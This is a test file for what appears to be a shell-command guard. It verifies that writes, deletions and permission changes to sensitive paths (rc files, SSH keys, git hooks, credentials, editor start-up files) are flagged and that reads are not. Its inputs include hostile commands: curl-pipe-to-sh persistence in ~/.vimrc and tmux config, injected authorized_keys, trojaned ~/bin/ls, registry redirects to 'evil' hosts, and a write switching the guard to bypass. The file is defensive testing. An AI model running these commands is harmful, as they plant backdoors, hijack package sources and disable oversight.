/**
 * Sensitive paths, ESLint-style: `input → finding ids` through the real analyze(), with the
 * built-in lists (src/config/defaults.ts). Writes and modifications count; reading does not.
 * `[]` means "no sensitive-path/* finding".
 */

import { describe, expect, it } from "vitest";
import { extractFactsReference } from "../../facts/reference.js";
import { analyze } from "../analyze.js";
import { cases, disguises, options, verify, type Row } from "../test-helpers.js";

const FILE = "sensitive-path/file";
const DIR = "sensitive-path/directory";

const TABLE: Row[] = [
  // redirects, every operator and spelling of the path
  ["echo x >> ~/.bashrc", [FILE]],
  ["echo x > ~/.bashrc", [FILE]],
  ["echo x >~/.zshrc", [FILE]],
  ["echo x >| ~/.profile", [FILE]],
  ["echo x &> ~/.bashrc", [FILE]],
  ["echo x &>> ~/.bashrc", [FILE]],
  ["echo x 2> ~/.bashrc", [FILE]],
  ["echo x >& ~/.bashrc", [FILE]],
  ["printf x 1<> ~/.bashrc", [FILE]],
  ["exec 3> ~/.bashrc", [FILE]],
  ["> ~/.bashrc", [FILE]],
  [": > ~/.bashrc", [FILE]],
  ["cat <<EOF > ~/.bashrc\nalias ls=rm\nEOF", [FILE]],
  ["{ echo a; echo b; } >> ~/.bashrc", [FILE]],
  ["echo x > $HOME/.bashrc", [FILE]],
  ["echo x > \"$HOME\"/.bashrc", [FILE]],
  ["echo x > \"${HOME}/.bashrc\"", [FILE]],
  ["echo x > /home/u/.bashrc", [FILE]],
  ["echo x > /home/u//.bashrc", [FILE]],
  ["echo x > ~/./.bashrc", [FILE]],
  ["echo x > ~/.ssh/../.bashrc", [FILE]],
  ["echo x > ../.bashrc", [FILE]],
  ["echo x > ~root/.bashrc", [FILE]],
  ["echo x > .env", [FILE]],
  ["echo x > .env.local", [FILE]],
  ["echo x > ~/.gitconfig", [FILE]],
  ["echo x > ~/.npmrc", [FILE]],
  ["echo x > ~/.netrc", [FILE]],
  ["echo x > .mcp.json", [FILE]],
  ["echo x >> ~/.config/fish/config.fish", [FILE]],
  ["echo x > /etc/hosts", [FILE]],
  ["echo x >> ~/.ssh/authorized_keys", [FILE]],
  ["echo x > ~/.ssh/config", [DIR]],
  ["echo x > .git/config", [DIR]],
  ["echo x > .git/hooks/pre-commit", [DIR]],
  ["echo x > sub/repo/.git/HEAD", [DIR]],
  ["echo x > ~/.aws/credentials", [DIR]],
  ["echo x > ~/.kube/config", [DIR]],
  ["echo x > ~/.config/gh/hosts.yml", [DIR]],
  ["echo x > ~/.claude/settings.json", [DIR]],
  ["echo x > .vscode/tasks.json", [DIR]],
  ["echo x > /etc/profile.d/x.sh", [DIR]],
  ["echo 3 > /proc/sys/vm/drop_caches", [DIR]],
  // commands that write or modify their targets
  ["tee ~/.bashrc", [FILE]],
  ["tee -a ~/.zshrc", [FILE]],
  ["echo x | tee -a ~/.bashrc > /dev/null", [FILE]],
  ["echo x | sudo tee /etc/hosts", [FILE]],
  ["echo x | sudo tee -a /etc/sudoers", [FILE]],
  ["truncate -s 0 ~/.bashrc", [FILE]],
  ["touch ~/.ssh/config", [DIR]],
  // making a directory changes nothing in it; what is then written into it is judged
  ...["mkdir -p .git/hooks", "mkdir -p ~/.ssh && chmod 700 ~/.ssh", "mkdir -m 700 ~/.ssh", "mkdir -p ~/.config/fish/conf.d"].map((c): Row => [c, [], "none", true]),
  ["mkdir -p ~/.ssh && echo k >> ~/.ssh/authorized_keys", ["sensitive-path/file"], "has", true],
  ["mkdir -p .git/hooks && cp x .git/hooks/pre-commit", [DIR], "has", true],
  // find deleting under a sensitive directory
  ...["find ~/.ssh -delete", "find ~/.ssh -exec rm -rf {} +", "find ~/.ssh -type f -execdir shred -u {} \\;", "find -L ~/.aws -delete", "find ~/.gnupg ~/.ssh -name '*' -exec rm {} +", "sudo find /etc/sudoers.d -delete"]
    .map((c): Row => [c, [DIR], "has", true]),
  ...["find ~/.ssh -name '*.pub' -exec cat {} \\;", "find ~/.ssh -type f", "find . -name '*.pyc' -delete", "find build -delete"].map((c): Row => [c, [], "none", true]),
  ["rm ~/.bashrc", [FILE]],
  ["rm -rf .git", [DIR]],
  ["rmdir ~/.ssh", [DIR]],
  ["shred -u ~/.ssh/id_rsa", [FILE]],
  ["chmod 644 ~/.ssh/id_rsa", [FILE]],
  ...["755", "a+x", "o+r", "g=rw", "u+s", "4700", "a=rw"].map((m): [string, string[]] => [`chmod ${m} ~/.ssh/id_rsa`, [FILE]]),
  // a mode that only takes access away from others (or sets the owner's own bits) is no write
  ...["600", "0600", "400", "700", "go-rwx", "og=", "u=rw,go=", "a-w", "g-w,o-r", "u+x"].map((m): [string, string[]] => [`chmod ${m} ~/.ssh/id_rsa`, []]),
  ["chmod 644 ~/.bashrc", [FILE]],
  ["chown root ~/.bashrc", [FILE]],
  ["chgrp staff ~/.ssh", [DIR]],
  ["cp evil ~/.bashrc", [FILE]],
  ["cp -f evil ~/.bashrc", [FILE]],
  ["cp evil.pub ~/.ssh/authorized_keys", [FILE]],
  ["cp key ~/.ssh", [DIR]],
  ["cp key ~/.ssh/", [DIR]],
  ["cp -t ~/.ssh key", [DIR]],
  ["cp --target-directory=~/.ssh key", [DIR]],
  ["cp .bashrc ~", [FILE]],
  ["cp ./.bashrc ~/", [FILE]],
  ["mv evil ~/.bashrc", [FILE]],
  ["mv x ~/.ssh/", [DIR]],
  ["mv ~/.bashrc ~/.bashrc.bak", [FILE]],
  // a backup beside the file (a name made from the source's) is not a directory it lands in
  ...["cp ~/.bashrc ~/.bashrc.bak", "cp ~/.zshrc ~/.zshrc~", "cp -p ~/.profile ~/.profile.orig"].map((c): Row => [c, [], "exact"]),
  ["cp ~/.bashrc ~/.bashrc.d/", [FILE]],
  ["cp .bashrc ~/", [FILE]],
  ["cp x.sh ~/.config/shellguard/config.json", [DIR]],
  ["echo '{\"mode\":\"bypass\"}' > ~/.config/shellguard/config.json", [DIR]],
  ["ln -sf /tmp/evil ~/.bashrc", [FILE]],
  ["ln -s ~/.bashrc link", [FILE]],
  ["install -m 644 x ~/.bashrc", [FILE]],
  ["install -D x ~/.config/gh/hosts.yml", [DIR]],
  ["dd if=x of=~/.bashrc", [FILE]],
  ["dd of=.git/config if=x", [DIR]],
  ["curl -o ~/.bashrc https://x", [FILE]],
  ["curl --output ~/.bashrc https://x", [FILE]],
  ["curl -sSLo ~/.bashrc https://x", [FILE]],
  ["curl https://x -o ~/.bashrc", [FILE]],
  ["curl https://x > ~/.bashrc", [FILE]],
  ["curl --output-dir ~/.ssh -O https://x/authorized_keys", [DIR]],
  ["wget -O ~/.bashrc https://x", [FILE]],
  ["wget -qO ~/.bashrc https://x", [FILE]],
  ["wget --output-document=~/.bashrc https://x", [FILE]],
  ["wget -P ~/.ssh https://x/key", [DIR]],
  ["rsync -a keys/ ~/.ssh/", [DIR]],
  ["rsync -e ssh host:keys ~/.ssh", [DIR]],
  ["scp host:key ~/.ssh/authorized_keys", [FILE]],
  ["tar -xf keys.tar -C ~/.ssh", [DIR]],
  ["tar xzf keys.tgz --directory=~/.ssh", [DIR]],
  ["unzip keys.zip -d ~/.ssh", [DIR]],
  ["patch ~/.bashrc < p.diff", [FILE]],
  ["perl -pi -e 's/a/b/' ~/.bashrc", [FILE]],
  ["perl -i.bak -pe 's/a/b/' ~/.zshrc", [FILE]],
  ["ruby -pi -e 'sub(/a/, \"b\")' .env", [FILE]],
  // another machine's sensitive paths are judged like the same paths here (remote-paths.ts)
  ["scp key host:~/.ssh/authorized_keys", [FILE, DIR]],
  ["rsync -a x host:.ssh/", [DIR]],
  // reading, and writing ordinary files, is fine
  ["cat ~/.ssh/id_rsa", []],
  ["cat ~/.bashrc", []],
  ["less ~/.ssh/config", []],
  ["grep alias ~/.bashrc", []],
  ["diff ~/.bashrc ~/.zshrc", []],
  ["source ~/.bashrc", []],
  ["cp ~/.ssh/id_rsa.pub /tmp/key.pub", []],
  ["tar -tf keys.tar -C ~/.ssh", []],
  ["tar -cf backup.tar ~/.ssh", []],
  ["unzip -l keys.zip -d ~/.ssh", []],
  ["rsync -a ~/.ssh/ backup/ssh/", []],
  ["perl -pe 's/a/b/' ~/.bashrc", []],
  ["patch --dry-run ~/.bashrc < p.diff", []],
  ["echo x > notes.txt", []],
  ["echo x >> build/log.txt", []],
  ["echo x > /tmp/env", []],
  ["echo x > environment.txt", []],
  ["echo x > .envelope", []],
  ["touch src/.gitkeep", []],
  ["cp a b", []],
  ["mkdir -p build/git", []],
  ["echo x > /dev/null", []],
  ["curl -o out.html https://x", []],
  ["wget https://x", []],
  ["git config user.name me", []],
  ["sort -o sorted.txt f", []],
];

const F = "sensitive-path/file";
const D = "sensitive-path/directory";

/** Globs read as patterns, the completed lists, and configuration commands as writes. */
const COMPLETED: Row[] = [
  ["echo x >> ~/.bashr?", [F]],
  ["echo x | tee -a ~/.bashr[c]", [F]],
  ["cp evil ~/.ss?/authorized_key?", [F]],
  ["tee -a ~/.*rc < x", [F]],
  ["echo x >> ~/.bash_aliases", [F]],
  ["cp x ~/.config/git/config", [F]],
  ["cp x ~/.config/fish/conf.d/a.fish", [D]],
  ["cp x ~/.config/fish/functions/ls.fish", [D]],
  ["cp x ~/.local/bin/ls", [D]],
  ["cp x ~/.cargo/bin/git", [D]],
  ["cp x ~/.local/lib/python3.12/site-packages/usercustomize.py", [F]],
  ["echo x > sitecustomize.py", [F]],
  ["echo key >> ~/.ssh/authorized_keys2", [F]],
  ["git config --global core.pager 'sh -c x'", [F]],
  ["git -C repo config core.hooksPath /tmp/h", [D]],
  ["git config --global alias.x '!sh'", [F]],
  ["git config set --global core.editor vim", [F]],
  ["git config --system credential.helper evil", [D]],
  ["git config --global url.https://evil/.insteadOf https://github.com/", [F]],
  ["npm config set registry http://evil", [F]],
  ["npm set script-shell /tmp/x", [F]],
  ["pnpm config set registry http://evil", [F]],
  ...["yarn config set yarnPath /tmp/x.js", "npm config set save-exact=true registry=http://evil", "npm config set save-exact true script-shell /tmp/x", "npm config edit",
    "npm config delete registry", "pip config set global.index-url https://evil/simple", "pip3 config --user set global.extra-index-url http://evil",
    "python3 -m pip config set global.trusted-host evil", "pip config edit", "npm config set //registry.npmjs.org/:_authToken x", "npm config set", "npm set @corp:registry http://evil"].map((c): [string, string[]] => [c, [F]]),
  ["ssh-keygen -f ~/.ssh/id_ed25519", [F]],
  ["ssh-keygen -t rsa -f ~/.ssh/id_rsa -N ''", [F]],
  // quiet
  ["echo x > *.txt", []],
  ["rm *", []],
  ["rm *.py", []],
  ["cp x ~/notes/*.md", []],
  ["echo x > ./bin/tool", []],
  ["git config --global user.name Bob", []],
  ["git config --get core.pager", []],
  ["git config --global --list", []],
  ["git config pull.rebase true", []],
  ["npm config get registry", []],
  // settings that change nothing about what is fetched or run
  ...["npm config set save-exact true", "npm config set save-exact=true", "npm set init-license MIT", "npm c set fund false", "pnpm config set auto-install-peers true",
    "yarn config set enableTelemetry 0", "pip config set global.timeout 60", "pip config list", "pip config get global.index-url", "python3 -m pip install requests", "npm config delete save-exact", "npm config set loglevel=warn progress=false"].map((c): [string, string[]] => [c, []]),
  ["npm config list", []],
  ["ssh-keygen -t ed25519 -f ./deploy_key", []],
  ["ssh-keygen -lf ~/.ssh/id_ed25519.pub", []],
  ["ssh-keygen -y -f ~/.ssh/id_ed25519", []],
];

describe("sensitive-path: glob patterns, completed lists, configuration commands", () => {
  it.each(cases(COMPLETED))("%s", (_title, row) => verify(row, "sensitive-path/"));
});

describe("sensitive-path: table", () => {
  it.each(cases(TABLE))("%s", (_title, row) => verify(row, "sensitive-path/"));
});

/** `~/x` in each spelling of home the shell expands (the test options have HOME=/home/u). */
const HOME_SPELLINGS: ReadonlyArray<(p: string) => string> = [
  (p) => p, (p) => p.replace("~/", "$HOME/"), (p) => p.replace("~/", "/home/u/"), (p) => p.replace("~/", "\"${HOME}\"/"),
];
const WRITES: ReadonlyArray<(t: string) => string> = [(t) => `echo x >> ${t}`, (t) => `cp /tmp/x ${t}`, (t) => `echo x | sudo tee -a ${t}`];
const over = (paths: readonly string[], id: string): Row[] =>
  paths.flatMap((path) => HOME_SPELLINGS.flatMap((home) => WRITES.map((write): Row => [write(home(path)), [id], "exact", true])));

/** Start-up files of other programs that run commands, and directories of code loaded at start-up. */
const STARTUP: Row[] = [
  ...over(["~/.vimrc", "~/.gvimrc", "~/.exrc", "~/.vim/vimrc", "~/.emacs", "~/.emacs.el", "~/.spacemacs", "~/.emacs.d/init.el", "~/.emacs.d/early-init.el",
    "~/.config/emacs/init.el", "~/.tmux.conf", "~/.config/tmux/tmux.conf", "~/.screenrc", "~/.gdbinit", "~/.config/gdb/gdbinit", "~/.lldbinit",
    "~/.psqlrc", "~/.psqlrc-16", "~/.sqliterc", "~/.Rprofile", "~/.Renviron", "~/.muttrc", "~/.mailcap", "~/.lesskey", "~/.config/lesskey"], F),
  ...over(["~/.vim/plugin/x.vim", "~/.vim/autoload/plug.vim", "~/.vim/pack/p/start/x/plugin/x.vim", "~/.vim/after/plugin/x.vim", "~/.vim/ftplugin/python.vim",
    "~/.config/nvim/init.lua", "~/.config/nvim/init.vim", "~/.config/nvim/plugin/x.lua", "~/.config/nvim/lua/x.lua", "~/.local/share/nvim/site/autoload/plug.vim",
    "~/.ipython/profile_default/startup/00.py", "~/.jupyter/jupyter_server_config.py", "~/.local/lib/python3.12/site-packages/x.pth",
    "~/.config/autostart/x.desktop", "~/.config/systemd/user/x.service", "~/Library/LaunchAgents/x.plist", "~/bin/ls", "~/.tmux/plugins/tpm/tpm",
    "~/.config/doom/config.el"], D),
  ["echo 'silent !curl x|sh' >> ~/.vimrc", [F], "exact", true],
  ["cp x.lua ~/.config/nvim/init.lua", [D], "exact", true],
  ["echo 'run-shell \"curl x|sh\"' >> ~/.tmux.conf", [F], "exact", true],
  ["tee -a ~/.gdbinit", [F], "exact", true],
  ["cp /tmp/x.pth ~/.local/lib/python3.12/site-packages/", [D], "exact", true],
  ["cp /tmp/evil ~/bin/ls", [D], "exact", true],
  ["ln -s /tmp/evil ~/bin/sudo", [D], "exact", true],
  ["cp /tmp/evil ~/bin/", [D], "exact", true],
  ["echo x > .Rprofile", [F], "exact", true],
  ["curl -fLo ~/.vim/autoload/plug.vim --create-dirs https://x/plug.vim", [D], "exact", true],
  ["echo x >> ~/.vimr?", [F], "exact", true],
  // an editor opening a file is not a write by the command line; reading and backups are fine
  ...["vim ~/.vimrc", "nvim ~/.config/nvim/init.lua", "emacs ~/.emacs", "cat ~/.tmux.conf", "cp ~/.vimrc backup/", "cp ~/.tmux.conf ~/.gdbinit dotfiles/", "ls ~/bin",
    "ls -la ~/.vim/plugin", "echo x > .vimrc", "echo x > proj/.tmux.conf", "echo x > ./bin/tool", "cp x bin/", "echo x > ~/binaries/x", "mkdir -p ~/.vim/undo",
    "echo x > ~/.vim/swap/x", "echo x > ~/.viminfo", "echo x > model.pth", "cp x.pth checkpoints/", "echo x > ~/.pythonrc", "echo x > ~/.config/git/ignore",
    "echo x > ~/.local/share/x", "cp x ~/.config/nvim.bak/init.lua", "echo x > ~/.vimrc.bak", "cp x /usr2/bin/x"].map((c): Row => [c, [], "exact", true]),
];

describe("sensitive-path: start-up files and code directories of other programs", () => {
  it.each(cases(STARTUP))("%s", (_title, row) => verify(row, "sensitive-path/"));
});

/** Each spelling of an output option (`%O` is the file), over targets; `%F` an output operand. */
const OUTPUTS: readonly string[] = [
  "uniq in %F", "uniq -c in %F", "uniq -f 1 -s2 in %F", "uniq --skip-fields=1 in %F", "uniq +3 in %F", "uniq -- in %F",
  "xxd -r in %F", "xxd -r -p in %F", "xxd -ps -c 16 in %F", "xxd -cols 8 -s 0 in %F", "xxd in %F",
  "cpp -P in %F", "cpp -P -I inc -DX=1 -MD in %F", "cpp -o %F in", "cpp -o%F in", "cpp --output=%F in", "cpp -M -MF %F in.c",
  "dos2unix -n in %F", "dos2unix --newfile in %F", "unix2dos -n in %F", "dos2unix -k -n in %F", "dos2unix -c ascii -n in %F", "dos2unix a.txt -n in %F", "dos2unix -n in out.txt -o %F", "dos2unix %F",
  "iconv -f latin1 -t utf-8 -o %F in", "iconv -o%F in", "iconv --output=%F in", "iconv --output %F in", "iconv -c -f x -t y in -o %F",
  "uudecode -o %F in", "uudecode -o%F in", "uudecode --output-file=%F in", "uudecode --output-file %F in",
  "openssl enc -d -aes-256-cbc -in in -out %F", "openssl enc -d -in in --out %F", "openssl enc -d -in in -out=%F", "openssl base64 -d -in in -out %F",
  "openssl req -new -key k -keyout %F", "openssl x509 -req -in c -signkey k -out %F", "openssl genrsa -out %F 4096", "openssl rand -base64 -out %F 32",
  "gpg -o %F -d in", "gpg -d -o%F in", "gpg --output %F --decrypt in", "gpg --output=%F -d in", "gpg2 -o %F -d in", "gpg --batch --yes -r me -o %F -d in", "gpg --out %F -d in",
  "sponge %F", "sponge -a %F", "link in %F", "history -w %F", "history -a %F",
];
const TARGETS: ReadonlyArray<[string, string[]]> = [["~/.bashrc", [F]], ["$HOME/.bashrc", [F]], ["/home/u/.bashrc", [F]], ["\"$HOME/.ssh/authorized_keys\"", [F]], ["~/.ssh/config", [D]], ["out.txt", []]];

const OUTPUT_ROWS: Row[] = [
  ...OUTPUTS.flatMap((form) => TARGETS.flatMap(([t, ids]): Row[] => [[form.replace("%F", t), ids, "exact", true], ["sudo " + form.replace("%F", t), ids, "exact", true]])),
  // what these tools read is no write
  ...["uniq ~/.bashrc", "uniq ~/.bashrc out.txt", "xxd ~/.bashrc", "xxd -r ~/.bashrc out.txt", "cpp ~/.bashrc out.i", "cpp -I ~/.ssh in.c out.i", "dos2unix -n ~/.bashrc out.txt",
    "dos2unix -O ~/.bashrc", "dos2unix -i ~/.bashrc", "dos2unix --info=u ~/.bashrc", "iconv -f x -t y ~/.bashrc", "iconv -f x -t y -o out.txt ~/.bashrc", "uudecode ~/.bashrc.uu -o out.txt",
    "openssl enc -in ~/.bashrc -out out.txt", "openssl x509 -in ~/.ssh/config -noout -text", "openssl req -key ~/.ssh/id_rsa -out out.csr", "gpg -d ~/.bashrc.gpg", "gpg -o out.txt -d ~/.bashrc.gpg",
    "gpg --homedir ~/.gnupg -k", "link ~/.bashrc out.txt", "history -r ~/.bashrc", "history -n ~/.bashrc", "history 20", "history -d 5", "sort -o out.txt ~/.bashrc"].map((c): Row => [c, [], "exact", true]),
  // sort -o is the side-effect check's (side-effect/output-file), not reported twice
  ["sort -o ~/.bashrc in", ["side-effect/output-file"], "has", true],
  // split and csplit write PREFIXaa / PREFIX00 (and --additional-suffix)
  ["split -n 2 --additional-suffix=.fish evil ~/.config/fish/conf.d/x", [D], "exact", true],
  ["split -l 1 in ~/.ssh/", [D], "exact", true],
  ["split -l1 -a 3 in $HOME/.local/bin/x", [D], "exact", true],
  ["csplit -f ~/.ssh/part in /a/", [D], "exact", true],
  ["csplit --prefix=$HOME/.ssh/part in /a/", [D], "exact", true],
  ...["split -l 1 in parts/x", "split -l 1 ~/.bashrc parts/x", "split in", "split --filter='cat' in ~/.ssh/", "split -l 1 in ~/.bash", "csplit in /a/", "csplit -f parts/x ~/.bashrc /a/"].map((c): Row => [c, [], "exact", true]),
];

describe("sensitive-path: output operands and options (uniq, xxd, cpp, dos2unix, iconv, uudecode, openssl, gpg, sponge, link, history, split)", () => {
  it.each(cases(OUTPUT_ROWS))("%s", (_title, row) => verify(row, "sensitive-path/"));
});

/** Files no word names, put into home itself (or a directory holding /etc ...). */
const BULK_ROWS: Row[] = [
  ...["tar -xf x.tar -C ~", "tar -xf x.tar -C ~/", "tar -xf x.tar -C $HOME", "tar xzf x.tgz -C /home/u", "tar -xf x.tar --directory=~", "tar -x -f x.tar -C \"$HOME\"", "sudo tar -C / -xzf x.tgz",
    "unzip -o x.zip -d ~", "unzip x.zip -d $HOME/", "unzip -qo x.zip -d/home/u", "cp -r dotfiles/. ~", "cp -a dotfiles/. ~/", "cp -R ./ ~", "cp -rT dotfiles ~", "cp -r -t ~ dotfiles/.",
    "rsync -a dotfiles/ ~/", "rsync -av dotfiles/ $HOME", "rsync -a dotfiles/ host:", "stow -t ~ dotfiles", "stow --target=$HOME vim", "stow vim", "stow -d ~/dotfiles vim", "stow -D -t ~ vim",
    "tar -xf x.tar -C /home", "tar -C ~/.local -xzf node.tgz --strip-components=1", "cp -r nvim/. ~/.config", "rsync -a fish/ ~/.config/"].map((c): Row => [c, [D], "exact", true]),
  ...["tar -xzf r.tgz -C build", "tar -xf x.tar -C ~/src", "tar -tf x.tar -C ~", "tar -cf x.tar -C ~ .bashrc", "tar -xf x.tar", "unzip -l x.zip -d ~", "unzip x.zip -d out",
    "cp -r dotfiles ~", "cp notes.txt ~", "cp -r src/. build", "cp -a . /tmp/copy", "rsync -a dotfiles ~/", "rsync -a ~/proj/ backup/", "rsync -a src/ host:app/",
    "stow -n -t ~ vim", "stow -t ~/.local/stow vim", "stow -d /opt/stow -t /opt pkg", "tar -xf x.tar -C /tmp", "tar -xf x.tar -C /var/www", "tar -xf x.tar -C ~/.cache", "cp -r src/. ~/proj/lib"].map((c): Row => [c, [], "exact", true]),
];

describe("sensitive-path: files no word names, put into home itself", () => {
  it.each(cases(BULK_ROWS))("%s", (_title, row) => verify(row, "sensitive-path/"));
});

const FORMS: ReadonlyArray<[string, string[]]> = [
  ["tee -a ~/.bashrc", [FILE]],
  ["touch .git/hooks/pre-commit", [DIR]],
  ["cp k ~/.ssh/authorized_keys", [FILE]],
  ["curl -fsSL https://x.sh -o ~/.bashrc", [FILE]],
  ["ln -sf /tmp/x ~/.zshrc", [FILE]],
  ["tee -a ~/.vimrc", [FILE]],
  ["cp /tmp/evil ~/bin/ls", [DIR]],
  ["uniq in ~/.bashrc", [FILE]],
  ["gpg -o ~/.bashrc -d in", [FILE]],
  ["tar -xf x.tar -C ~", [DIR]],
];

describe.each(FORMS)("sensitive-path: %s in disguise", (form, expected) => {
  it.each(cases(disguises(form, expected)))("%s", (_title, row) => verify(row));
});

describe("sensitive-path: configurable lists", () => {
  const ids = (cmd: string, files: string[], dirs: string[]): string[] =>
    analyze(cmd, options(false, { sensitiveFiles: files, sensitiveDirectories: dirs }), extractFactsReference).findings.map((f) => f.id);

  it.each([
    ["echo x > secrets.yaml", ["secrets.yaml"], [], [FILE]],
    ["echo x > config/secrets.yaml", ["config/secrets.yaml"], [], [FILE]],
    ["echo x > app.pem", ["*.pem"], [], [FILE]],
    ["echo x > ~/.bashrc", [], [], []],
    ["echo x > deploy/prod/x", [], ["deploy/prod"], [DIR]],
    ["echo x > /srv/data/x", [], ["/srv"], [DIR]],
    ["echo x > .git/config", [], [], []],
    // absolute files, runs of any length, globs in every form
    ["echo x > /srv/app/secret.txt", ["/srv/app/secret.txt"], [], [FILE]],
    ["echo x > /srv/app/other.txt", ["/srv/app/secret.txt"], [], []],
    ["echo x > /opt/app/prod.key", ["/opt/*/*.key"], [], [FILE]],
    ["echo x > conf/secrets.prod.yaml", ["conf/secrets.*.yaml"], [], [FILE]],
    ["echo x > x/a/b/c/d.txt", [], ["a/b/c"], [DIR]],
    ["echo x > x/a/b/d/c.txt", [], ["a/b/c"], []],
    ["echo x > /home/bob/.cache/x", [], ["/home/*/.cache"], [DIR]],
    ["echo x > /home/bob/.config/x", [], ["/home/*/.cache"], []],
    ["echo x > deploy/prod-eu/x", [], ["deploy/prod-*"], [DIR]],
    ["echo x > deploy/staging/x", [], ["deploy/prod-*"], []],
    ["echo x > /srv/x", [], ["/srv/"], [DIR]],
    ["echo x > /srvx/x", [], ["/srv"], []],
  ] as const)("%s with files %j, directories %j", (cmd, files, dirs, expected) => {
    expect(ids(cmd, [...files], [...dirs])).toEqual(expected);
  });
});

describe("redirects around a command substitution", () => {
  it("belong to the outer command, not to the commands inside $(...)", () => {
    const a = analyze('echo "$(git status)" > ~/.bashrc', options(), extractFactsReference);
    const messages = a.findings.filter((f) => f.id === FILE).map((f) => f.message);
    expect(messages).toHaveLength(1);
    expect(messages[0]).toMatch(/^echo writes to/);
  });
});

describe("messages show paths as written, not resolved against the user's home", () => {
  it.each([
    ["echo x >> ~/.bashrc", "~/.bashrc"],
    ["echo x >> $HOME/.bashrc", "~/.bashrc"],
    ["echo x >> /home/u/.ssh/config", "~/.ssh/config"],
    ["cp x ../.profile", "~/.profile"],
    ["echo x > /etc/hosts", "/etc/hosts"],
  ] as const)("%s names %s", (cmd, shown) => {
    const messages = analyze(cmd, options(true), extractFactsReference).findings.filter((f) => f.id.startsWith("sensitive-path/")).map((f) => f.message);
    expect(messages.length).toBeGreaterThan(0);
    for (const m of messages) {
      expect(m).toContain(shown);
      expect(m).not.toContain("/home/u");
    }
  });
});

describe("sensitive-paths: more start-up files, and files copied from a host into home", () => {
  it.each(cases([
    ...["~/.config/vim/vimrc", "~/.vim/filetype.vim", "~/.cargo/env", "~/.nvm/nvm.sh", "~/.xsessionrc", "~/.login", "~/.bash_completion", "~/.config/direnv/direnvrc", "~/.curlrc", "~/.wgetrc", "~/.cargo/config", "~/.irbrc", "~/.lessfilter"]
      .map((f): Row => [`echo x >> ${f}`, ["sensitive-path/file"], "has", true]),
    ...["~/.local/share/bash-completion/completions/git", "~/.local/share/systemd/user/x.service", "~/.gradle/init.d/x.gradle"].map((f): Row => [`cp x ${f}`, ["sensitive-path/directory"], "has", true]),
    ...["scp host:.bashrc ~", "rsync -a host:.bashrc ~/", "scp user@host:dots/.profile ~"].map((c): Row => [c, ["sensitive-path/file"], "has", true]),
    ...["scp host:x.txt .", "rsync -a host:dir/ backup/", "cat ~/.curlrc", "vim ~/.config/vim/vimrc", "cp ~/.irbrc backup/"].map((c): Row => [c, [], "none", true]),
  ]))("%s", (_title, row) => verify(row));
});
